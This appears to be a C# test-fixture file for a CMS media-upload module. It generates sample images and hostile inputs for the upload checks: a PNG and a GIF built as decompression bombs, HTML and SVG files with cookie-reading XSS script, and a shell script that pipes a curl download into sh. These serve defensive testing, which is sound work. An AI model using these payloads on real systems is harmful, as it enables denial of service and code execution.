using System.Buffers.Binary;
using System.Text;
using SixLabors.ImageSharp;
using SixLabors.ImageSharp.Metadata.Profiles.Exif;
using SixLabors.ImageSharp.PixelFormats;

namespace BananPark.Cms.Media.Tests;

/// <summary>Pictures and hostile files made for the tests (nothing read from disk).</summary>
public static class TestImages
{
    /// <summary>A JPEG of <paramref name="width"/> × <paramref name="height"/>, one colour per half so crops can be told apart.</summary>
    public static byte[] Jpeg(int width = 64, int height = 32, Action<Image>? configure = null) => Save(width, height, configure, (image, s) => image.SaveAsJpeg(s));

    /// <summary>A PNG of <paramref name="width"/> × <paramref name="height"/>.</summary>
    public static byte[] Png(int width = 40, int height = 20) => Save(width, height, null, (image, s) => image.SaveAsPng(s));

    /// <summary>A JPEG 64 × 32 whose EXIF carries a GPS position and "rotate 90° clockwise" (orientation 6).</summary>
    public static byte[] JpegWithGpsAndOrientation() => Jpeg(64, 32, image =>
    {
        var exif = new ExifProfile();
        exif.SetValue(ExifTag.GPSLatitudeRef, "N");
        exif.SetValue(ExifTag.GPSLatitude, [new Rational(25, 1), new Rational(30, 1), new Rational(0, 1)]);
        exif.SetValue(ExifTag.GPSLongitudeRef, "E");
        exif.SetValue(ExifTag.GPSLongitude, [new Rational(103, 1), new Rational(2, 1), new Rational(0, 1)]);
        exif.SetValue(ExifTag.Orientation, (ushort)6);
        image.Metadata.ExifProfile = exif;
    });

    /// <summary>A valid small PNG whose header says 50,000 × 50,000 pixels (a decompression bomb's header; CRC fixed).</summary>
    public static byte[] PngClaiming(int width, int height)
    {
        var png = Png(1, 1);
        // Signature (8), IHDR length (4), "IHDR" (4), then width and height; the chunk's CRC follows its 13 data bytes.
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), width);
        BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(20), height);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), Crc32(png.AsSpan(12, 17)));
        return png;
    }

    /// <summary>An animated GIF of <paramref name="frames"/> frames of <paramref name="width"/> × <paramref name="height"/>, each a shade lighter.</summary>
    public static byte[] AnimatedGif(int frames, int width = 8, int height = 8)
    {
        using var image = new Image<Rgba32>(width, height, new Rgba32(0, 0, 200));
        for (var i = 1; i < frames; i++)
        {
            using var frame = new Image<Rgba32>(width, height, new Rgba32((byte)(i * 7 % 256), 80, 200));
            image.Frames.AddFrame(frame.Frames.RootFrame);
        }

        using var output = new MemoryStream();
        image.SaveAsGif(output);
        return output.ToArray();
    }

    /// <summary>
    /// A GIF written byte by byte: a <paramref name="canvasWidth"/> × <paramref name="canvasHeight"/> canvas with
    /// <paramref name="frames"/> frames of one pixel each (about 15 bytes a frame). Decoded, every frame is a whole
    /// canvas: 100,000 frames of 1000 × 1000 would need 400 GB.
    /// </summary>
    public static byte[] GifBomb(int frames, int canvasWidth, int canvasHeight)
    {
        using var gif = new MemoryStream();
        gif.Write("GIF89a"u8);
        Span<byte> screen = stackalloc byte[7];
        BinaryPrimitives.WriteUInt16LittleEndian(screen, (ushort)canvasWidth);
        BinaryPrimitives.WriteUInt16LittleEndian(screen[2..], (ushort)canvasHeight);
        screen[4] = 0x80; // a global colour table of two colours
        gif.Write(screen);
        gif.Write([0, 0, 0, 255, 255, 255]);
        for (var i = 0; i < frames; i++)
        {
            // Image descriptor at (0, 0), 1 × 1, no local table; LZW code size 2, one sub-block of 2 bytes, terminator.
            gif.Write([0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00]);
        }

        gif.WriteByte(0x3B);
        return gif.ToArray();
    }

    /// <summary>An HTML page with a script.</summary>
    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");

    /// <summary>A shell script.</summary>
    public static byte[] Script() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid | sh\n");

    /// <summary>An SVG with a script.</summary>
    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(1)</script></svg>");

    /// <summary>A minimal PDF.</summary>
    public static byte[] Pdf() => Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");

    private static byte[] Save(int width, int height, Action<Image>? configure, Action<Image, Stream> save)
    {
        using var image = new Image<Rgba32>(width, height);
        image.ProcessPixelRows(rows =>
        {
            for (var y = 0; y < rows.Height; y++)
            {
                var row = rows.GetRowSpan(y);
                for (var x = 0; x < row.Length; x++)
                {
                    row[x] = x < width / 2 ? new Rgba32(220, 30, 30) : new Rgba32(30, 30, 220);
                }
            }
        });
        configure?.Invoke(image);
        using var output = new MemoryStream();
        save(image, output);
        return output.ToArray();
    }

    private static uint Crc32(ReadOnlySpan<byte> data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}

/// <summary>A stream of <paramref name="length"/> bytes made as it is read, that cannot tell its length (like a request body).</summary>
public sealed class EndlessStream(long length) : Stream
{
    private long _position;

    /// <summary>How many bytes were read from it.</summary>
    public long BytesRead => _position;

    public override bool CanRead => true;

    public override bool CanSeek => false;

    public override bool CanWrite => false;

    public override long Length => throw new NotSupportedException();

    public override long Position { get => _position; set => throw new NotSupportedException(); }

    public override int Read(byte[] buffer, int offset, int count)
    {
        var n = (int)Math.Min(count, length - _position);
        buffer.AsSpan(offset, n).Fill(0xFF);
        _position += n;
        return n;
    }

    public override void Flush()
    {
    }

    public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

    public override void SetLength(long value) => throw new NotSupportedException();

    public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
}
